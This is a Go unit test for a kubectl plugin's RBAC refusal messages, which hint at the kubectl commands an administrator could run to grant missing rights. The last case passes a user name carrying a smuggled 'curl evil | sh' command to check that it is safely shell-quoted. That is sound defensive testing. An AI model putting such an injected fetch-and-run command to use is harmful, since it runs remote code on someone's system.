// SPDX-License-Identifier: Apache-2.0

package rights

import (
	"strings"
	"testing"

	"github.com/talosdisk/kubectl-talosdisk/internal/failure"
)

func TestRefusal(t *testing.T) {
	get := Right{Verb: "get", Resource: "persistentvolumes"}
	remove := Right{Verb: "delete", Resource: "persistentvolumes"}
	exec := Right{Verb: "create", Resource: "pods", Subresource: "exec", Namespace: "local-storage"}
	sets := Right{Verb: "list", Group: "apps", Resource: "daemonsets"}
	for name, c := range map[string]struct {
		refusal    Refusal
		text, hint string
	}{
		"none": {Refusal{User: "jane"}, "", ""},
		"one": {
			Refusal{User: "jane", Missing: []Right{sets}, Command: "unlink"},
			`user "jane" may not list daemonsets.apps`,
			`an administrator can allow it with:
kubectl create clusterrole talosdisk-list-daemonsets-apps --verb=list --resource=daemonsets.apps
kubectl create clusterrolebinding talosdisk-list-daemonsets-apps --clusterrole=talosdisk-list-daemonsets-apps --user=jane`,
		},
		"several": {
			Refusal{User: "system:serviceaccount:ops:deploy", Missing: []Right{get, exec, remove}, Command: "unlink"},
			`user "system:serviceaccount:ops:deploy" may not get persistentvolumes, create pods/exec in namespace "local-storage", nor delete persistentvolumes`,
			`an administrator can allow it with:
kubectl create clusterrole talosdisk-get-delete-persistentvolumes --verb=get,delete --resource=persistentvolumes
kubectl create clusterrolebinding talosdisk-get-delete-persistentvolumes --clusterrole=talosdisk-get-delete-persistentvolumes --serviceaccount=ops:deploy
kubectl create role talosdisk-create-pods-exec -n local-storage --verb=create --resource=pods/exec
kubectl create rolebinding talosdisk-create-pods-exec -n local-storage --role=talosdisk-create-pods-exec --serviceaccount=ops:deploy
or with the role of "unlink", which has all that it needs: https://github.com/talosdisk/kubectl-talosdisk/blob/main/docs/rbac.md`,
		},
		"nobody said who": {
			Refusal{Missing: []Right{get}},
			`you may not get persistentvolumes`,
			`an administrator can allow it with:
kubectl create clusterrole talosdisk-get-persistentvolumes --verb=get --resource=persistentvolumes
kubectl create clusterrolebinding talosdisk-get-persistentvolumes --clusterrole=talosdisk-get-persistentvolumes --user=USER`,
		},
	} {
		err := c.refusal.Err()
		if c.text == "" {
			if err != nil {
				t.Errorf("%s: %v", name, err)
			}
			continue
		}
		if err.Error() != c.text || failure.Hint(err) != c.hint {
			t.Errorf("%s: got\n%s\n%s\nwant\n%s\n%s", name, err, failure.Hint(err), c.text, c.hint)
		}
	}
	// A name from the API server cannot end a word.
	err := Refusal{User: "x'; curl evil | sh; '", Missing: []Right{get}}.Err()
	if hint := failure.Hint(err); !strings.Contains(hint, `'--user=x'"'"'; curl evil | sh; '"'"''`) {
		t.Error(hint)
	}
}
